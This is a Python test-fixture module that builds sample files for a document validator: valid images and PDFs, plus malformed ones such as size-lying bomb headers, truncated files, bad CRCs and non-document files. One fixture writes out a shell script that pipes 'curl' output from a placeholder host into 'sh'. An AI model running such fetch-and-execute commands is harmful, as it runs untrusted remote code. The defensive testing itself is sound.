"""Crafted documents for tests, built in code: every function returns the bytes of one kind of file.

Well-formed files come from Pillow, pypdfium2 and pikepdf; hostile ones (bombs, truncations, lying
headers, big-endian or thousand-frame TIFFs) are assembled by hand so that they stay a few KiB and never
need a real decoder to produce them.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

from PIL import Image, ImageDraw

# --------------------------------------------------------------------------------------------------
# Well-formed images (Pillow)
# --------------------------------------------------------------------------------------------------


def picture(width: int = 64, height: int = 48, mode: str = "RGB") -> Image.Image:
    """A small non-uniform picture, so that compressed formats carry real image data."""
    image = Image.linear_gradient("L").resize((width, height)).convert(mode)
    draw = ImageDraw.Draw(image)
    draw.rectangle((width // 4, height // 4, width * 3 // 4, height * 3 // 4), outline="black" if mode != "1" else 0)
    draw.line((0, 0, width - 1, height - 1), fill="white" if mode != "1" else 1)
    return image


def _save(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def png(width: int = 64, height: int = 48, mode: str = "RGB") -> bytes:
    return _save(picture(width, height, mode), "PNG")


def jpeg(width: int = 64, height: int = 48, *, progressive: bool = False) -> bytes:
    return _save(picture(width, height), "JPEG", quality=90, progressive=progressive)


def webp(width: int = 64, height: int = 48, *, lossless: bool = False) -> bytes:
    return _save(picture(width, height), "WEBP", lossless=lossless, quality=80)


def bmp(width: int = 64, height: int = 48, mode: str = "RGB") -> bytes:
    return _save(picture(width, height, mode), "BMP")


def gif(width: int = 64, height: int = 48) -> bytes:
    return _save(picture(width, height, "P"), "GIF")


def tiff(pages: int = 3, width: int = 64, height: int = 48, compression: str = "tiff_deflate") -> bytes:
    """A multi-page TIFF as Pillow writes it (little-endian, "II*\\0")."""
    frames = [picture(width, height) for _ in range(pages)]
    return _save(frames[0], "TIFF", save_all=True, append_images=frames[1:], compression=compression)


# --------------------------------------------------------------------------------------------------
# Hand-built TIFF: either byte order, any number of frames, any declared size
# --------------------------------------------------------------------------------------------------


def tiff_raw(
    pages: int = 3,
    width: int = 32,
    height: int = 24,
    *,
    byteorder: str = ">",
    sizes: list[tuple[int, int]] | None = None,
) -> bytes:
    """An uncompressed 8-bit greyscale TIFF ("MM\\0*" for ">", "II*\\0" for "<").

    All frames share one strip of pixel data, so thousands of frames cost ~120 bytes each. `sizes`, if
    given, overrides the size each frame declares (e.g. a bomb on page 2); the strip always holds
    width*height bytes, which is enough for the validator, which does not decode TIFF pixels.
    """
    sizes = sizes or [(width, height)] * pages
    strip = bytes((x * 7 + y * 3) & 0xFF for y in range(height) for x in range(width))
    strip_offset = 8  # right after the header
    first_ifd = strip_offset + len(strip) + (len(strip) & 1)  # IFDs start on a word boundary
    header = (b"MM\x00*" if byteorder == ">" else b"II*\x00") + struct.pack(byteorder + "I", first_ifd)
    entry_count = 9
    ifd_size = 2 + 12 * entry_count + 4
    out = bytearray(header + strip + b"\x00" * (len(strip) & 1))
    for index, (w, h) in enumerate(sizes):
        here = first_ifd + index * ifd_size
        following = here + ifd_size if index + 1 < len(sizes) else 0
        entries = [  # (tag, type, value); SHORT=3, LONG=4; sorted by tag as the spec requires
            (256, 4, w),  # ImageWidth
            (257, 4, h),  # ImageLength
            (258, 3, 8),  # BitsPerSample
            (259, 3, 1),  # Compression: none
            (262, 3, 1),  # PhotometricInterpretation: BlackIsZero
            (273, 4, strip_offset),  # StripOffsets
            (277, 3, 1),  # SamplesPerPixel
            (278, 4, h),  # RowsPerStrip
            (279, 4, len(strip)),  # StripByteCounts
        ]
        ifd = bytearray(struct.pack(byteorder + "H", entry_count))
        for tag, kind, value in entries:
            # A value shorter than 4 bytes is left-justified in the field, whatever the byte order.
            packed = struct.pack(byteorder + ("H" if kind == 3 else "I"), value).ljust(4, b"\x00")
            ifd += struct.pack(byteorder + "HHI", tag, kind, 1) + packed
        ifd += struct.pack(byteorder + "I", following)
        out += ifd
    return bytes(out)


# --------------------------------------------------------------------------------------------------
# Hand-built PNG: exact control over IHDR, IDAT and CRCs
# --------------------------------------------------------------------------------------------------

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(kind: bytes, body: bytes, *, crc: int | None = None) -> bytes:
    """One PNG chunk; `crc` overrides the correct CRC (to build a corrupt file)."""
    value = zlib.crc32(kind + body) if crc is None else crc
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", value)


def png_ihdr(width: int, height: int, bit_depth: int = 8, colour_type: int = 2, interlace: int = 0) -> bytes:
    return png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, interlace))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header claims `width`x`height` RGB but whose data is a few bytes: a decompression-bomb
    shape. Nothing may allocate width*height to look at it."""
    idat = zlib.compress(b"\x00" * 64)
    return PNG_SIGNATURE + png_ihdr(width, height) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def png_raw(width: int = 20, height: int = 20, *, interlace: bool = False, short_by: int = 0) -> bytes:
    """An 8-bit greyscale PNG encoded by hand (filter 0 on every row), optionally Adam7-interlaced.

    `short_by` removes that many bytes from the end of the *uncompressed* scanlines: the zlib stream is
    valid and the CRCs are right, but the image data is incomplete.
    """
    if interlace:
        passes = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))
        raw = bytearray()
        for x0, y0, dx, dy in passes:
            xs, ys = range(x0, width, dx), range(y0, height, dy)
            if xs and ys:
                for y in ys:
                    raw += b"\x00" + bytes((x * 5 + y) & 0xFF for x in xs)
    else:
        raw = bytearray()
        for y in range(height):
            raw += b"\x00" + bytes((x * 5 + y) & 0xFF for x in range(width))
    data = bytes(raw[: len(raw) - short_by])
    return (
        PNG_SIGNATURE
        + png_ihdr(width, height, 8, 0, 1 if interlace else 0)
        + png_chunk(b"IDAT", zlib.compress(data))
        + png_chunk(b"IEND", b"")
    )


def png_bad_crc() -> bytes:
    """A well-formed PNG with one flipped bit in the IDAT chunk's CRC."""
    data = bytearray(png())
    idat = data.index(b"IDAT")
    (length,) = struct.unpack(">I", data[idat - 4 : idat])
    data[idat + 4 + length] ^= 0x01  # first byte of the CRC
    return bytes(data)


# --------------------------------------------------------------------------------------------------
# Hand-built WebP / BMP headers that lie about their size
# --------------------------------------------------------------------------------------------------


def webp_declaring(width: int, height: int) -> bytes:
    """A VP8X (extended) WebP header claiming a `width`x`height` canvas, followed by nothing useful."""
    vp8x = struct.pack("<I", 0) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + b"VP8X" + struct.pack("<I", len(vp8x)) + vp8x
    return b"RIFF" + struct.pack("<I", len(body)) + body


def bmp_declaring(width: int, height: int) -> bytes:
    """A 24-bit BMP header claiming `width`x`height`, with (almost) no pixel data."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    header = b"BM" + struct.pack("<IHHI", 14 + len(info) + 4, 0, 0, 14 + len(info))
    return header + info + b"\x00" * 4


# --------------------------------------------------------------------------------------------------
# PDF
# --------------------------------------------------------------------------------------------------


def pdf(pages: int = 1, width: float = 612, height: float = 792) -> bytes:
    """A PDF with `pages` blank pages of `width`x`height` points (US Letter by default)."""
    import pypdfium2 as pdfium

    document = pdfium.PdfDocument.new()
    try:
        for _ in range(pages):
            document.new_page(width, height).close()
        buffer = io.BytesIO()
        document.save(buffer)
        return buffer.getvalue()
    finally:
        document.close()


def encrypted_pdf(user_password: str = "secret", owner_password: str = "owner-secret") -> bytes:
    """An AES-256 encrypted PDF; an empty `user_password` gives an owner-password-only (permissions) PDF."""
    import pikepdf

    buffer = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(612, 792))
        document.save(
            buffer,
            encryption=pikepdf.Encryption(
                user=user_password,
                owner=owner_password,
                R=6,
                allow=pikepdf.Permissions(extract=False, print_highres=False, modify_other=False),
            ),
        )
    return buffer.getvalue()


def pdf_header_then_garbage(size: int = 4096, seed: int = 7) -> bytes:
    noise = random.Random(seed).randbytes(size)
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + noise + b"\n%%EOF\n"


# --------------------------------------------------------------------------------------------------
# Not documents
# --------------------------------------------------------------------------------------------------


def html() -> bytes:
    return b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body><p>Pay now</p></body></html>\n"


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("invoice.txt", "not a document type we accept\n" * 10)
    return buffer.getvalue()


def elf_executable() -> bytes:
    # A 64-bit little-endian ELF header (e_ident + type/machine) padded to a plausible size.
    ident = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
    return ident + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 200


def shell_script() -> bytes:
    return b"#!/bin/sh\nset -eu\ncurl -s http://example.invalid/x | sh\n"


def plain_text() -> bytes:
    return "Dear customer,\n\nyour order has shipped.\n\nRegards — the team\n".encode()


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    """The first `keep` fraction of `data` (at least one byte, always at least one byte short)."""
    return data[: max(1, min(len(data) - 1, int(len(data) * keep)))]


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small baseline JPEG whose SOF0 header is patched to claim `width`x`height`."""
    data = bytearray(jpeg(16, 16))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_cut_with_consistent_riff(keep: float = 0.6) -> bytes:
    """A WebP cut short whose RIFF size is rewritten to match: only the inner chunk length betrays it."""
    data = bytearray(truncated(webp(), keep))
    data[4:8] = struct.pack("<I", len(data) - 8)
    return bytes(data)
